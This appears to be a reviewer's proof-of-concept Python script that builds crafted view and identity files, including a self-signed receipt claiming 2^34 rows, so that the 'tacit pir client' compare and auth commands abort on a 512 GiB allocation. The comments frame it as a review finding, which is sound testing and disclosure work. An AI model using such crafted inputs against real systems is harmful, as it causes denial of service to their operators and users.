# Review tool: a 112-byte view file (rows = 2^34) and a 676-byte identity file whose
# self-signed receipt says rows = 2^34. `tacit pir client compare huge.view huge.view`
# and `tacit pir client auth --id evil.json` abort (512 GiB allocation).
# Run the CLI under `ulimit -v 6000000` on a shared machine.
import json, os, struct
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives import serialization
B = bytes.fromhex("e2f2ae0a6abc4e71a884a961c500515f58e30b6aa582dd8db6a65945e08d2d76")   # ristretto255 B
B2 = bytes.fromhex("6a493210f7499cd17fecb510ae0cea23a110e8d5b901f8acadd3095c73a3b919")  # 2B
rfc = bytes.fromhex("d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a")
for name, rows in [("huge.view", 1 << 34), ("big.view", 1 << 27)]:
    open(name, "wb").write(b"tacit-tracedge-view-v1\0" + rfc + struct.pack(">Q", rows) + B + b"\0" + bytes(16))
sk = Ed25519PrivateKey.generate()
pk = sk.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
msg = pk + struct.pack(">Q", 0) + B + struct.pack(">Q", 1 << 34) + B2 + struct.pack(">QQ", 1, 0)
rec = bytes([1]) + struct.pack(">H", 0x062f) + msg + sk.sign(b"tacit/tracedge/v3/receipt\0" + msg)
ident = {"connect": "127.0.0.1:9", "pin": "00" * 32, "server_key": pk.hex(), "row": 0,
         "secret": (1).to_bytes(32, "little").hex(), "receipt": rec.hex()}
fd = os.open("evil.json", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600); os.write(fd, json.dumps(ident).encode()); os.close(fd)
print("wrote huge.view big.view evil.json")
